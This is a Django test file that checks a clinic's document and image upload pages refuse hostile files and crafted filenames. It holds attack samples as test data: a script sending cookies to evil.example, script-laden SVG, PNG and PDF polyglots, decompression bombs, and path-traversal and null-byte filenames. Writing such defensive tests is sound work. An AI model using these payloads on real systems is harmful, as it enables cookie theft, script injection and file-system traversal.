"""Hostile files sent to the upload pages by a doctor: each is refused next to the file field, and
leaves nothing behind (no document, version or image row; no file in the media folder).

The content set: executables renamed .pdf, HTML, SVG with script, a polyglot PNG, PDFs with scripts or
a web page inside, truncated images, decompression bombs, oversized and empty files. The name set is
sent as a crafted multipart body (the test client would tidy the name itself): Django's parser keeps
only the last part of a path and drops control characters, so such an upload is either refused with a
message or stored under a random name with a safe display name, and nothing lands outside the media folder.
"""

import functools
import io
import random
import re
import struct
import zlib
from datetime import timedelta
from html import escape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from clinic import uploads
from clinic.tests.fields import field_block
from documents.models import ClinicalDocument, DocumentVersion, PatientImage
from documents.tests.factories import pdf_bytes, photo_bytes
from patients.tests.factories import PatientFactory

pytestmark = pytest.mark.django_db

NOT_ACCEPTED = "Only a PDF, JPEG, PNG or WebP file is accepted; this file is not one of them."
NOT_AN_IMAGE = "Only a JPEG, PNG or WebP image is accepted; this file is not one of them."
IMAGES_ONLY = "Only a JPEG, PNG or WebP image is accepted here."
POLYGLOT = "This file has a web page or a script hidden inside it, so it is not accepted."
ACTIVE_PDF = (
    "This PDF contains scripts, attachments or launch actions, which are not accepted; "
    "print it to a new PDF or scan it instead."
)
DAMAGED = "This image is damaged or incomplete; upload it again."
TRUNCATED_PDF = "This PDF is incomplete or damaged; upload the whole file."
TOO_MANY_PIXELS = "This image is too large to process."
EMPTY = "The submitted file is empty."
REQUIRED = "This field is required."

DOCUMENT, IMAGE = "document", "image"


# --- hostile content --------------------------------------------------------------------------


def noisy_image(image_format, size=(96, 64), mode="RGB", seed=0):
    """Noise rather than a flat colour, so a cut through the file lands inside the pixel data."""
    rng = random.Random(seed)
    image = Image.frombytes(mode, size, rng.randbytes(size[0] * size[1] * len(mode)))
    out = io.BytesIO()
    image.save(out, image_format)
    return out.getvalue()


def png_claiming(width, height):
    """A 1x1 PNG whose header says width x height (with a valid CRC): a bomb as seen before decoding."""
    data = bytearray(noisy_image("PNG", size=(1, 1), mode="L"))
    assert data[12:16] == b"IHDR"
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


@functools.cache
def real_bomb():
    """A real 10000 x 10000 PNG (100 million pixels, about 12 KB): cheap in mode "1"."""
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG")
    return out.getvalue()


PDF_WITH_SCRIPT = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"3 0 obj<</S/JavaScript/JS(app.alert('hi'))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
PDF_WITH_HTML = pdf_bytes("x").replace(
    b"trailer", b"<html><body><script>fetch('/patients/')</script></body></html>\ntrailer"
)
EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 50
    + b"This program cannot be run in DOS mode." * 4
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)


def _cases():
    """(id, file name, bytes, message on the document page, message on the image page)."""
    png = noisy_image("PNG")
    jpeg = noisy_image("JPEG")
    return [
        ("executable-renamed-pdf", "result.pdf", EXECUTABLE, NOT_ACCEPTED, NOT_AN_IMAGE),
        ("html-page", "result.html", HTML_PAGE, POLYGLOT, POLYGLOT),
        ("svg-with-script", "drawing.svg", SVG_WITH_SCRIPT, POLYGLOT, POLYGLOT),
        ("png-with-html-appended", "photo.png", png + b"<html><script>alert(1)</script></html>", POLYGLOT, POLYGLOT),
        ("pdf-with-javascript", "result.pdf", PDF_WITH_SCRIPT, ACTIVE_PDF, IMAGES_ONLY),
        ("pdf-carrying-html", "result.pdf", PDF_WITH_HTML, POLYGLOT, POLYGLOT),
        ("truncated-pdf", "result.pdf", pdf_bytes("cut")[:60], TRUNCATED_PDF, IMAGES_ONLY),
        ("truncated-jpeg", "photo.jpg", jpeg[: len(jpeg) // 2], DAMAGED, DAMAGED),
        ("truncated-png", "photo.png", png[: len(png) // 2], DAMAGED, DAMAGED),
        ("png-claiming-20000x20000", "bomb.png", png_claiming(20_000, 20_000), TOO_MANY_PIXELS, TOO_MANY_PIXELS),
        ("real-10000x10000-png", "bomb.png", real_bomb(), TOO_MANY_PIXELS, TOO_MANY_PIXELS),
    ]


CASES = _cases()


# --- helpers --------------------------------------------------------------------------------------


def days_ago(n):
    return timezone.localdate() - timedelta(days=n)


def fields(kind):
    if kind == DOCUMENT:
        return {"doc_type": "lab_result", "title": "Full blood count", "document_date": days_ago(1).isoformat()}
    return {"body_site": "Left shin", "taken_on": days_ago(1).isoformat()}


def url(kind, patient):
    return reverse("documents:upload" if kind == DOCUMENT else "documents:image_upload", args=[patient.pk])


def send(client, kind, name, data, patient=None):
    patient = patient or PatientFactory()
    return client.post(url(kind, patient), {**fields(kind), "file": SimpleUploadedFile(name, data)})


def files_under(folder):
    return sorted(p for p in folder.rglob("*") if p.is_file())


def no_rows():
    return not (ClinicalDocument.objects.exists() or DocumentVersion.objects.exists() or PatientImage.objects.exists())


def file_field_html(response):
    """The rendered block of the file field: its label, input, help and errors."""
    return field_block(response.content.decode(), "id_file")


def assert_refused(response, message, media):
    assert response.status_code == 200
    assert response.context["form"].errors.get("file") == [message]
    block = file_field_html(response)
    assert 'class="field has-error"' in block
    assert escape(message) in block
    assert no_rows()
    assert files_under(media) == []


# --- content --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "data", "message"), [c[1:4] for c in CASES], ids=[c[0] for c in CASES])
def test_a_hostile_document_is_refused_next_to_the_file_field(doctor_client, media, name, data, message):
    assert_refused(send(doctor_client, DOCUMENT, name, data), message, media)


@pytest.mark.parametrize(("name", "data", "message"), [(c[1], c[2], c[4]) for c in CASES], ids=[c[0] for c in CASES])
def test_a_hostile_image_is_refused_next_to_the_file_field(doctor_client, media, name, data, message):
    assert_refused(send(doctor_client, IMAGE, name, data), message, media)


def test_a_well_formed_pdf_and_photo_pass_the_same_pages(doctor_client, media):
    # The control for everything above: the same requests with ordinary files are accepted.
    patient = PatientFactory()

    document = send(doctor_client, DOCUMENT, "result.pdf", pdf_bytes("fine"), patient)
    image = send(doctor_client, IMAGE, "photo.jpg", photo_bytes(seed=1), patient)

    assert document.status_code == image.status_code == 302
    assert ClinicalDocument.objects.count() == PatientImage.objects.count() == 1
    assert len(files_under(media)) == 3  # the PDF, the photo and its thumbnail


@pytest.mark.parametrize("kind", [DOCUMENT, IMAGE])
def test_an_image_over_the_clinics_pixel_limit_is_refused(doctor_client, media, monkeypatch, kind):
    monkeypatch.setattr(uploads, "MAX_IMAGE_PIXELS", 100 * 100)

    response = send(doctor_client, kind, "photo.png", noisy_image("PNG", size=(101, 100)))

    assert_refused(response, TOO_MANY_PIXELS, media)


@pytest.mark.parametrize("kind", [DOCUMENT, IMAGE])
def test_an_oversized_file_is_refused(doctor_client, media, settings, kind):
    settings.UPLOAD_MAX_MB = 1
    if kind == DOCUMENT:
        data = pdf_bytes("x").replace(b"%%EOF", b"%" + b"x" * (1024 * 1024 * 3 // 2) + b"\n%%EOF")
    else:
        data = noisy_image("PNG", size=(720, 720))
    assert len(data) > 1024 * 1024

    response = send(doctor_client, kind, "big.pdf" if kind == DOCUMENT else "big.png", data)

    message = response.context["form"].errors["file"][0]
    assert re.fullmatch(r"The file is 1\.\d MB; the limit is 1 MB\.", message)
    assert_refused(response, message, media)


@pytest.mark.parametrize("kind", [DOCUMENT, IMAGE])
def test_an_empty_file_is_refused(doctor_client, media, kind):
    assert_refused(send(doctor_client, kind, "empty.pdf", b""), EMPTY, media)


def test_a_pdf_is_refused_on_the_image_page(doctor_client, media):
    assert_refused(send(doctor_client, IMAGE, "photo.jpg", pdf_bytes("a scan")), IMAGES_ONLY, media)


# --- names ----------------------------------------------------------------------------------------

BOUNDARY = "----hostile-boundary-7MA4YWxkTrZu0gW"


def crafted_post(client, kind, disposition_name, data, patient=None):
    """POST a multipart body whose file part carries `disposition_name` verbatim (bytes), as a
    hand-made request would: the test client's own encoder would reduce a path to its last part."""
    patient = patient or PatientFactory()
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields(kind).items()
    ]
    parts.append(
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '.encode()
        + disposition_name
        + b"\r\nContent-Type: application/octet-stream\r\n\r\n"
        + data
        + b"\r\n"
    )
    parts.append(f"--{BOUNDARY}--\r\n".encode())
    return client.post(
        url(kind, patient), data=b"".join(parts), content_type=f"multipart/form-data; boundary={BOUNDARY}"
    )


LONG_NAME = b'filename="' + b"a" * 296 + b'.pdf"'
NAMES = [
    ("path-traversal", b'filename="../../etc/passwd.pdf"', "passwd.pdf"),
    ("windows-traversal", b'filename="..\\..\\Windows\\win.ini.pdf"', "win.ini.pdf"),
    ("encoded-traversal", b"filename*=UTF-8''..%2F..%2Fetc%2Fpasswd.pdf", "passwd.pdf"),
    ("html-entity-traversal", b'filename="&#46;&#46;&#47;&#46;&#46;&#47;etc&#47;passwd.pdf"', "passwd.pdf"),
    ("null-byte", b'filename="lab\x00.pdf"', "lab.pdf"),
    ("null-byte-extension-trick", b'filename="shell.php\x00.pdf"', "shell.php.pdf"),
    ("control-characters", b'filename="lab\x01\x08\x1b\x7f.pdf"', "lab.pdf"),
    ("300-characters", LONG_NAME, None),  # shortened: checked below
    ("only-dot-dot", b'filename=".."', REQUIRED),
    ("traversal-to-nothing", b'filename="../"', REQUIRED),
]
UNSAFE = re.compile(r"[\x00-\x1f\x7f/\\]|\.\.")


def assert_stored_safely(response, media, tmp_path, *, shown=None, extension="pdf"):
    assert response.status_code == 302, response.context and response.context["form"].errors
    stored = DocumentVersion.objects.get() if extension == "pdf" else PatientImage.objects.get()
    name = stored.original_name
    assert not UNSAFE.search(name), name
    assert 0 < len(name) <= 160
    if shown is not None:
        assert name == shown
    folder = "documents" if extension == "pdf" else "images"
    assert re.fullmatch(rf"{folder}/\d{{4}}/[0-9a-f]{{32}}\.{extension}", stored.file.name)
    assert (media / stored.file.name).resolve().is_relative_to(media.resolve())
    # Nothing written anywhere else in the test's folder (the media folder sits inside it).
    outside = [p for p in files_under(tmp_path) if not p.resolve().is_relative_to(media.resolve())]
    assert outside == []
    return stored


@pytest.mark.parametrize(("disposition", "expected"), [n[1:] for n in NAMES], ids=[n[0] for n in NAMES])
def test_a_crafted_document_name_is_refused_or_stored_under_a_random_name(
    doctor_client, media, tmp_path, disposition, expected
):
    response = crafted_post(doctor_client, DOCUMENT, disposition, pdf_bytes(disposition.decode("latin-1")))

    if expected == REQUIRED:
        # Django's parser drops a file whose name is nothing but a path: the form says the file is missing.
        assert_refused(response, REQUIRED, media)
        assert files_under(tmp_path) == []
    else:
        assert_stored_safely(response, media, tmp_path, shown=expected)


def test_a_300_character_name_is_shortened_for_display_keeping_its_extension(doctor_client, media, tmp_path):
    response = crafted_post(doctor_client, DOCUMENT, LONG_NAME, pdf_bytes("long name"))

    version = assert_stored_safely(response, media, tmp_path)
    assert version.original_name.startswith("aaaa")
    assert version.original_name.endswith(".pdf")
    assert len(version.original_name) <= 160


@pytest.mark.parametrize(
    ("disposition", "shown"),
    [
        (b'filename="../../../../tmp/evil.jpg"', "evil.jpg"),
        (b'filename="photo\x00.jpg"', "photo.jpg"),
        (b'filename="ph\x1b[2Joto.jpg"', "ph[2Joto.jpg"),
    ],
    ids=["path-traversal", "null-byte", "escape-sequence"],
)
def test_a_crafted_image_name_is_stored_under_a_random_name(doctor_client, media, tmp_path, disposition, shown):
    response = crafted_post(doctor_client, IMAGE, disposition, photo_bytes(seed=5))

    image = assert_stored_safely(response, media, tmp_path, shown=shown, extension="jpg")
    assert re.fullmatch(r"thumbnails/\d{4}/[0-9a-f]{32}\.jpg", image.thumbnail.name)


def test_a_crafted_name_does_not_change_the_type_found_in_the_content(doctor_client, media, tmp_path):
    # A PDF sent as "photo.jpg" is stored and served as the PDF it is, and named so.
    response = crafted_post(doctor_client, DOCUMENT, b'filename="photo.jpg"', pdf_bytes("really a pdf"))

    version = assert_stored_safely(response, media, tmp_path, shown="photo.pdf")
    assert version.content_type == "application/pdf"
